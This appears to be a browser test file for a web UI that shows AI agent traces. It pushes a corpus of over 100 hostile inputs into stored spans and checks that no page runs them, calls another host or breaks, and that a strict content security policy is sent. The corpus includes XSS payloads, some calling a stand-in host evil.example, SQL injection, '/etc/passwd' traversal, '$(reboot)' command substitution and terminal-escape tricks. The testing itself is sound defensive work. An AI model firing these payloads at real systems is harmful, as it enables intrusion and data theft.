import { ok, post, stored, until } from '../harness.mjs';
import { now, run } from '../data.mjs';
import { newSpan, newTrace, rawRequest, request } from '../otlp.mjs';

const evil = 'https://evil.example';
/** What strangers write: none of it may run, ask another host, or break the page. */
export const corpus = [
  '<script>window.__xss=1;alert(1)</script>', '"><script src="https://evil.example/x.js"></script>', `<img src=x onerror="window.__xss=1;fetch('${evil}')">`, `<img src="${evil}/pixel.png">`, '<svg/onload=window.__xss=1>', '<svg><script>window.__xss=1</script></svg>',
  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>parent.__xss=1</script>">', `<link rel=stylesheet href="${evil}/x.css">`, `<style>@import "${evil}/x.css";body{display:none}</style>`, `<body onload=window.__xss=1>`, `<video><source onerror="window.__xss=1">`, '<details open ontoggle=window.__xss=1>', '<marquee onstart=window.__xss=1>', '<form action="https://evil.example"><input name=x></form>', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<object data="https://evil.example/x.swf">', '<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>', '</textarea><script>window.__xss=1</script>', '</title><script>window.__xss=1</script>', '<!--><script>window.__xss=1</script>-->',
  'javascript:window.__xss=1', '[click](javascript:window.__xss=1)', `[img](${evil})`, `![img](${evil}/i.png)`, '[a](data:text/html,<script>window.__xss=1</script>)', '<a href="javascript:window.__xss=1">x</a>', 'vbscript:msgbox(1)', '# <script>window.__xss=1</script>', '```html\n<script>window.__xss=1</script>\n```', '> <img src=x onerror=window.__xss=1>', '- [x](javascript:alert(1))', `<${evil}/autolink>`,
  '{{constructor.constructor("window.__xss=1")()}}', '${window.__xss=1}', '#{window.__xss=1}', '<%= window.__xss=1 %>', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '{"__proto__":{"polluted":1}}', '[object Object]', 'undefined', 'null', 'NaN', '-0', '1e999',
  '\u202Etxt.exe\u202C gpj.', '\u2066\u2067isolated', '\u200F\u200Ertl marks', '\u061C', 'a\u0000b', '\u0000', '\u0001\u0002\u0003\u0004', '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', '\u001b[2J\u001b[H', '\u009b31m', '\u0085next', '\u2028line\u2029para', '\uFEFFbom', '\u200Bzero\u200Bwidth', '\u00ADsoft', '\uFFFD\uFFFD', 'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034Da\u036B\u0357\u0334\u0362\u0335\u031C\u0330\u0354l\u0368\u0367\u0369\u0358g\u0311\u0357o', '\u{E0001}\u{E0041}\u{E0042}tag characters', '👩‍👩‍👧‍👦'.repeat(30), '﷽'.repeat(20), '\r\n\r\n', '\t\t\t', '   ', '\n'.repeat(200),
  "' OR 1=1 --", "'; DROP TABLE spans; --", '%s%n%x', '../../../../etc/passwd', 'file:///etc/passwd', '$(reboot)', '`reboot`', '| cat /etc/passwd', '\\', '\\u003cscript\\u003e', '&lt;script&gt;', '&#60;script&#62;', '%3Cscript%3E', '"quotes" \'and\' `ticks`', 'or', 'and', 'not', '(', ')', '((((', 'a:b:c', '*', '???', 'x'.repeat(300), 'very '.repeat(500),
];

export default {
  'nothing that strangers write runs, asks another host or breaks a page': async (t) => {
    ok(corpus.length >= 100, `at least 100 payloads: ${corpus.length}`);
    // Each payload as name, model, tool, error and arguments of a span of its own; all of them together in every list of one span.
    const trace = newTrace();
    const r = run({ trace, start: now() - 60_000_000_000n, service: corpus[0], session: corpus[2], user: corpus[51], environment: corpus[4] });
    r.add(0, corpus[0], 0, 30, { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': corpus[2], 'agent.user_message': corpus.slice(0, 12).join(' ') });
    const every = (f) => corpus.map((x, i) => f(x || 'empty', i));
    const messages = (role) => JSON.stringify([{ role, parts: every((x) => ({ type: 'text', content: x })) }, { role: 'assistant', parts: every((x) => ({ type: 'reasoning', content: x })) }, { role: corpus[0], parts: every((x) => ({ type: 'tool_call', id: x, name: x, arguments: { [x]: x } })) }, { role: 'tool', parts: every((x) => ({ type: 'tool_call_response', id: x, result: x })) }]);
    r.add(1, 'everything', 0.05, 29, {
      ...Object.fromEntries(every((x, i) => [`${x} ${i}`, x])), 'gen_ai.operation.name': 'chat', 'gen_ai.request.model': corpus[4], 'gen_ai.response.model': corpus[2], 'gen_ai.usage.input_tokens': 5, 'gen_ai.usage.output_tokens': 5, 'gen_ai.request.temperature': 1, 'gen_ai.response.finish_reasons': corpus, 'experiment.variant': corpus[0], 'gen_ai.prompt.name': corpus[0], 'gen_ai.prompt.version': corpus[2], ...Object.fromEntries(every((x, i) => [`eval.score.${x}`, i % 2 ? x : i / 10])), nested: Object.fromEntries(every((x) => [x, [x, { [x]: x }]])),
      'gen_ai.input.messages': messages('user'), 'gen_ai.output.messages': messages('assistant'), 'gen_ai.tool.definitions': JSON.stringify(every((x) => ({ type: 'function', name: x, description: x, parameters: { [x]: x } }))),
    }, { as: 'everything', error: corpus.slice(0, 30).join('\n'), type: corpus[2], events: every((x) => ({ time: now(), name: x, attributes: { [x]: x } })), links: every((x) => ({ trace: newTrace(), span: newSpan(), attributes: { [x]: x } })) });
    corpus.forEach((x, i) => {
      const at = 0.1 + i * 0.2;
      r.add(1, x || 'empty', at, at + 0.15, { 'gen_ai.operation.name': i % 2 ? 'chat' : 'execute_tool', 'gen_ai.request.model': x, 'gen_ai.response.model': x, 'gen_ai.provider.name': x, 'gen_ai.tool.name': x, 'gen_ai.tool.call.arguments': x, 'gen_ai.tool.call.result': x }, { error: i % 3 === 0 ? x || 'error' : undefined, type: x, as: `payload ${i}` });
    });
    await post(t.server, r.request());
    // One line of a megabyte, one page of control characters, and bytes that are not UTF-8.
    const huge = newTrace(), hugeSpan = newSpan(), at = now() - 30_000_000_000n;
    await post(t.server, request({ 'service.name': 'huge' }, [{ traceId: huge, spanId: hugeSpan, name: 'one line of a megabyte', kind: 1, startTimeUnixNano: String(at), endTimeUnixNano: String(at + 5_000_000n), attributes: [{ key: 'line', value: { stringValue: 'x<b>'.repeat(262_144) } }, { key: 'controls', value: { stringValue: '\u0007\u202e'.repeat(50_000) } }, { key: 'gen_ai.operation.name', value: { stringValue: 'chat' } }, { key: 'gen_ai.output.messages', value: { stringValue: JSON.stringify([{ role: 'assistant', parts: [{ type: 'text', content: 'y'.repeat(1_000_000) }] }]) } }] }]));
    const broken = newTrace(), brokenSpan = newSpan();
    await post(t.server, rawRequest({ service: Buffer.from([0x73, 0xff, 0xfe]), trace: broken, id: brokenSpan, name: Buffer.from([0x6e, 0xc3, 0x28, 0xf0, 0x9f, 0x92]), start: at, end: at + 1_000_000n, attributes: [['not utf-8', Buffer.from([0xed, 0xa0, 0x80, 0x41, 0xc0, 0xaf, 0xff])], ['fine', 'still here']] }), 'application/x-protobuf');
    await stored(t.server, trace, r.spans.length);
    await stored(t.server, huge, 1);
    await stored(t.server, broken, 1);

    const p = await t.open();
    const alive = async (what) => { ok((await p.page.locator('nav.rail').count()) === 1 && (await p.page.getByText('This page broke').count()) === 0, `${what} is whole`); ok(new URL(p.page.url()).origin === new URL(t.server.ui).origin, `${what} stays on our host`); };
    await p.go('/search');
    await p.page.locator('.tbody .tr:not(.skrow)').first().waitFor();
    await alive('the list');
    await p.go('/search?row=spans');
    await p.page.locator('.tbody .tr:not(.skrow)').first().waitFor();
    await alive('the list of spans');
    await p.go(`/t/${trace}`);
    await p.page.locator('.wf-r').first().waitFor();
    for (let seen = 0; seen < r.spans.length; seen += 20) { await p.page.locator('.wf-s').evaluate((e, y) => { e.scrollTop = y; }, seen * 26); await p.page.locator(`.wf-r[style*="${seen * 26}px"]:not(.wait)`).first().waitFor(); }
    await alive('every row of the waterfall');
    await p.go(`/t/${trace}?s=${r.ids.everything}`);
    await p.page.locator('.det[data-span]').waitFor();
    const tabs = p.page.locator('.det [role=tab]'), count = await tabs.count();
    ok(count >= 8, `${count} tabs`);
    for (let n = 0; n < count; n++) {
      await tabs.nth(n).click();
      await alive(`tab ${n}`);
      for (const closed of (await p.page.locator('.det .fold[aria-expanded=false], .det summary').all()).slice(0, 40)) await closed.click();
      await alive(`tab ${n}, opened`);
    }
    for (const i of [2, 22, 49, 53, 56, 62, 99]) {
      await p.go(`/t/${trace}?s=${r.ids[`payload ${i}`]}`);
      await p.page.locator('.det[data-span]').waitFor();
      await alive(`payload ${i}`);
    }
    await p.go(`/t/${trace}?r=conversation&find=script`);
    await p.page.locator('.step').first().waitFor();
    await p.page.locator('.conv').evaluate((e) => { e.scrollTop = e.scrollHeight / 2; });
    await alive('the conversation');
    await p.go(`/t/${trace}?s=${r.ids.everything}&d=attributes`);
    await until('control characters are signs', async () => (await p.page.locator('.det .sign').count()) > 0);
    for (const path of [`/t/${huge}?s=${hugeSpan}`, `/t/${huge}?s=${hugeSpan}&d=attributes`, `/t/${broken}?s=${brokenSpan}&d=attributes`, '/services', '/health', `/search?q=${encodeURIComponent('<script>window.__xss=1</script>')}`]) {
      await p.go(path);
      await p.page.waitForLoadState('networkidle').catch(() => undefined);
      await alive(path);
    }
    for (const path of [`/t/${trace}?r=flame`, `/t/${trace}?r=graph`, `/t/${trace}?r=graph&graph=calls`, `/t/${trace}?r=statistics`, '/overview', '/overview?by=user', `/session?id=${encodeURIComponent(corpus[2])}`, '/users', '/sessions', `/compare?a=${trace}&b=${huge}`, '/prices', `/compare?by=model`, `/compare?by=variant&arm=${encodeURIComponent(corpus[0])}&arm=${encodeURIComponent(corpus[1])}`, `/compare?by=service&arm=${encodeURIComponent(corpus[0])}`, `/redact`, `/overview?panels=${encodeURIComponent(JSON.stringify([{ title: corpus[0], q: corpus[2], figure: 'spans', by: 'model' }]))}`]) {
      await p.go(path);
      await p.page.waitForLoadState('networkidle').catch(() => undefined);
      await alive(path);
    }
    // What strangers wrote, in the palette.
    await p.go('/search');
    await p.page.locator('.tbody .tr:not(.skrow)').first().waitFor();
    await p.press('Control+k');
    for (const x of corpus.slice(0, 6)) { await p.page.locator('.palq input').fill(x); await p.page.locator('.palette [role=option]').first().waitFor(); }
    await p.press('Escape');
    await alive('the palette');
    await p.go(`/t/${broken}?s=${brokenSpan}&d=attributes`);
    await p.page.locator('.kv', { hasText: 'still here' }).waitFor();
    await p.go(`/t/${huge}?s=${hugeSpan}&d=attributes`);
    const rest = p.page.getByRole('button', { name: /Read the rest/ }).first();
    await rest.click();
    await until('the whole megabyte', async () => (await p.page.locator('.kv tr', { hasText: 'line' }).first().locator('.stext').evaluate((e) => e.textContent.length)) >= 1_048_576);
    // Whatever is on the page, it holds no element that a payload could have made.
    const foreign = await p.page.evaluate(() => document.querySelectorAll('#root script, #root iframe, #root object, #root img, #root link, #root base, #root style, #root form[action], #root [onload], #root [onerror]').length);
    ok(foreign === 0, `${foreign} elements of strangers`);
  },
  'the server sends a strict policy, and pages keep it': async (t) => {
    const r = await fetch(`${t.server.ui}/search`);
    const csp = r.headers.get('content-security-policy') ?? '';
    ok(/default-src '(none|self)'/.test(csp), `a default of nothing else in: ${csp}`);
    for (const d of ["script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "base-uri 'none'"]) ok(csp.includes(d), `${d} in: ${csp}`);
    ok(!/unsafe/.test(csp), `nothing unsafe in: ${csp}`);
    ok(r.headers.get('x-content-type-options') === 'nosniff', 'nosniff');
    ok(r.headers.get('referrer-policy') === 'no-referrer', 'no referrer');
    const p = await t.open();
    for (const path of ['/', `/t/${t.design.trace}?s=${t.design.ids.answer}`, `/t/${t.design.trace}?r=conversation`, '/services', '/health', '/nothing/here']) {
      await p.go(path);
      await p.page.locator('nav.rail').waitFor();
      await p.page.waitForLoadState('networkidle').catch(() => undefined);
    }
    const blocked = await p.page.evaluate(() => new Promise((resolve) => { document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true }); const s = document.createElement('script'); s.textContent = 'window.__xss = 1'; document.body.append(s); setTimeout(() => resolve(false), 500); }));
    ok(blocked, 'an inline script is refused');
    p.seen.violations.length = 0;
  },
};
